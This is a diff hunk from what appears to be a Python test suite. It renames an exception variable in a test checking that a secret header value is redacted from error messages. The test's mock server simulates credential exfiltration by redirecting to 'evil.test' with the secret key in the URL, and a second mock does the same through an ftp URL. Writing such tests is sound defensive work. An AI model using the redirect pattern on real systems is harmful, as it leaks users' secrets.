@@ -178,9 +178,9 @@ def test_an_echo_in_an_error_is_redacted(serve: Serve, make_api: MakeApi) -> Non
     server = serve({"/": lambda request: Answer.redirect(f"https://evil.test/{request.headers['x-key']}")})
     api = api_for(make_api, server, http=[server.grant, "127.0.0.1"])
     options = {"headers": {"X-Key": api.call("secret", ["KEY"])}}
-    with pytest.raises(Denied) as caught:
+    with pytest.raises(Denied) as denied:
         api.call("http.get", [f"{server.url}/", options])
-    assert PLAIN not in str(caught.value)
+    assert PLAIN not in str(denied.value)
     bad = serve({"/": lambda request: Answer.redirect(f"ftp://{request.headers['x-key']}/")})
     api = api_for(make_api, bad)
     with pytest.raises(ToolError) as caught:
